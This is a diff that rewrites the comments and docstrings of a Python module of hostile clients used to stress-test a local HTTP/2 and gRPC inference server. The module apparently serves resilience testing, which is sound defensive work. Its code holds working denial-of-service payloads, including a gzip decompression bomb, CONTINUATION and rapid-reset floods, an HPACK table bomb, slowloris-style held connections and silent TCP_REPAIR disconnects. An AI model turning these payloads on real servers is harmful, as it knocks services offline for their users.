@@ -1,4 +1,4 @@
-"""Clients that want to do harm, each kind in a process of its own."""
+"""Hostile clients, each kind in its own process."""
 
 import asyncio
 import gzip
@@ -12,19 +12,21 @@ from typing import Callable
 from . import frames
 
 PING = frames.frame(frames.PING, 0, 0, b"pingpong")
-# Setting of Linux's sockets by which one can be closed without a word to its peer.
+# Linux socket option with which a socket can be closed without a packet to its peer.
 TCP_REPAIR = 19
-# Another address than that of well-behaved clients.
+# An address other than that of the well-behaved clients.
 SOURCE = "127.0.0.2"
-# Where a payload waits, for the other side's first words, and how long.
+# Marker in a payload at which the client waits for the server's first bytes, and the seconds of the wait.
 PAUSE, PAUSE_SECONDS = b"\0PAUSE\0", 0.05
-# Code of a stream that its client no longer needs, and the time in which a call is read but seldom answered.
+# Code for resetting a stream that its client no longer needs, and the seconds after which a call has been read but
+# rarely answered.
 CANCEL, GIVE_UP_SECONDS = b"\0\0\0\x08", 0.002
 
 
 @dataclass(frozen=True)
 class Attack:
-    """A kind of harm: its name, the wires that it speaks, its connections, and what each of them does until it ends."""
+    """A kind of attack: its name, its protocols, its number of connections, and the function that each of them runs
+    until the end."""
 
     name: str
     wires: tuple
@@ -33,7 +35,7 @@ class Attack:
 
 
 async def swallow(reader, seconds: float) -> bytes:
-    """Reads until the other side ends, or for so long."""
+    """Reads until the server closes the connection, or for `seconds`."""
     told = b""
     try:
         while piece := await asyncio.wait_for(reader.read(65536), seconds):
@@ -51,7 +53,7 @@ async def write(writer, payload: bytes) -> None:
 
 
 async def send(port: int, payload: bytes, seconds: float = 10.0) -> bytes:
-    """Sends it all on a new connection, and reads what comes back."""
+    """Sends a payload on a new connection, and returns the response."""
     reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0))
     try:
         await write(writer, payload)
@@ -65,7 +67,7 @@ async def send(port: int, payload: bytes, seconds: float = 10.0) -> bytes:
 
 
 def again(payload: Callable, seconds: float = 3.0) -> Callable:
-    """Sends a payload again and again."""
+    """Returns an attack that sends a payload repeatedly."""
 
     async def act(port: int, host: str, end: float) -> None:
         whole = payload(host)
@@ -76,7 +78,8 @@ def again(payload: Callable, seconds: float = 3.0) -> Callable:
 
 
 def hold(begin: Callable, drip: bytes = b"", every: float = 1.0) -> Callable:
-    """Holds a connection with as little as possible, and opens another where it ends."""
+    """Returns an attack that holds a connection with as little traffic as possible, and opens another one when it ends.
+    """
 
     async def act(port: int, host: str, end: float) -> None:
         while time.monotonic() < end:
@@ -102,7 +105,8 @@ def post(path: str, length: str) -> Callable:
 
 
 def begun(**settings: int) -> bytes:
-    """Begins a connection, takes the other side's settings for received, and waits for its windows to open."""
+    """Returns the start of an HTTP/2 connection: it acknowledges the server's settings and pauses until the server has
+    opened its windows."""
     return frames.preface(**settings) + frames.frame(frames.SETTINGS, frames.ACK, 0) + PAUSE
 
 
@@ -112,7 +116,7 @@ def rpc(path: str, content: bytes, *more: tuple, step: int = 16384, last: bool =
 
 
 INFER = "/v2/models/add_sub/infer"
-# Just less than a stream's window, so that it leaves at once.
+# Just less than a stream's window, so that the whole message is sent at once.
 EMPTY_INPUTS = frames.message(b"\x2a\x00" * (2**19 - 8))
 ZEROS = 200 << 20
 BOMB = frames.message(gzip.compress(b"\x3a\x80\x80\x80\x64" + bytes(ZEROS), 9), flag=1)
@@ -120,14 +124,15 @@ CHUNKS = b"1\r\n \r\n" * 100_000
 
 
 async def endless_control(port: int, host: str, end: float) -> None:
-    """A body of 1 GiB for a call that changes a setting."""
+    """Sends a body of 1 GiB for a call that changes a setting."""
     head = post("/v2/logging", f"Content-Length: {1 << 30}")(host)
     while time.monotonic() < end:
         await send(port, head + b"[" * (4 << 20))
 
 
 async def vanish(port: int, host: str, end: float) -> None:
-    """Asks, and is gone without a word: the other side learns of it only by asking."""
+    """Sends a request and disappears without closing the connection, so that the server can detect it only by probing.
+    """
     while time.monotonic() < end:
         peer = socket.create_connection(("127.0.0.1", port), source_address=(SOURCE, 0))
         peer.sendall(post(INFER, "Content-Length: 100")(host))
@@ -140,7 +145,7 @@ async def vanish(port: int, host: str, end: float) -> None:
 
 
 async def crowd(port: int, host: str, end: float) -> None:
-    """Many connections of one address, opened as fast as they are closed."""
+    """Opens many connections from one address, as fast as they are closed."""
     held = []
     while time.monotonic() < end:
         try:
@@ -160,7 +165,7 @@ async def crowd(port: int, host: str, end: float) -> None:
 
 
 def stopped(host: str) -> bytes:
-    """All of a long body but its last byte."""
+    """Returns a long body without its last byte."""
     size = 16 << 20
     return post(INFER, f"Content-Length: {size}")(host) + bytes(size - 1)
 
@@ -170,14 +175,14 @@ def endless_head(host: str) -> bytes:
 
 
 def continuation(host: str) -> bytes:
-    """A head of many frames, none of which is the last."""
+    """Returns a request head of many frames, none of which is the last."""
     first = frames.frame(frames.HEADERS, 0, 1, frames.fields((":method", "POST"), (":path", "/"), (":authority", host)))
     more = frames.frame(frames.CONTINUATION, 0, 1, frames.fields(*(("x-a", "b" * 100),) * 100))
     return begun() + first + more * 200
 
 
 def table_bomb(host: str) -> bytes:
-    """A header that is long once, and then named by a byte each."""
+    """Returns a header that is long once, and is then referenced by one byte each."""
     long = b"\x40" + frames.string(b"x-a") + frames.string(b"b" * 3900)
     start = frames.fields((":method", "POST"), (":scheme", "http"), (":path", frames.INFER), (":authority", host))
     first = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, start + long)
@@ -186,13 +191,13 @@ def table_bomb(host: str) -> bytes:
 
 
 def resets(host: str) -> bytes:
-    """Calls that are taken back at once."""
+    """Returns calls that are reset at once."""
     one = lambda stream: frames.call(stream, frames.INFER, host) + frames.frame(frames.RESET, 0, stream, CANCEL)  # noqa: E731
     return begun() + b"".join(one(2 * number + 1) for number in range(2000))
 
 
 async def give_up(port: int, host: str, end: float) -> None:
-    """Whole calls, fifty at once, which are taken back as soon as they have been read."""
+    """Sends complete calls, fifty at once, which are reset as soon as the server has read them."""
     from .neighbours import MESSAGE
     one = lambda stream: frames.call(stream, frames.INFER, host) + frames.data(stream, MESSAGE)  # noqa: E731
     while time.monotonic() < end:
@@ -216,13 +221,13 @@ async def give_up(port: int, host: str, end: float) -> None:
 
 
 def promises(host: str) -> bytes:
-    """Streams of messages of 2 GiB each, of which five bytes come."""
+    """Returns streams that announce messages of 2 GiB each, of which only five bytes are sent."""
     begin = lambda stream: frames.call(stream, frames.STREAM, host) + frames.data(stream, b"\0\x7f\xff\xff\xff", False)  # noqa: E731
     return begun() + b"".join(begin(2 * number + 1) for number in range(500))
 
 
 def unread(host: str) -> bytes:
-    """Calls whose answers have no window."""
+    """Returns calls whose responses have no flow-control window."""
     from .neighbours import MESSAGE
     one = lambda stream: frames.call(stream, frames.INFER, host) + frames.data(stream, MESSAGE)  # noqa: E731
     return begun(window=0) + b"".join(one(2 * number + 1) for number in range(100))
@@ -260,7 +265,7 @@ ATTACKS = [
 
 
 def run(attack: Attack, port: int, host: str, seconds: float) -> None:
-    # Who attacks has machines of its own.
+    # An attacker would use other machines, so the attack leaves the CPU to the servers.
     os.nice(10)
 
     async def all_of() -> None:
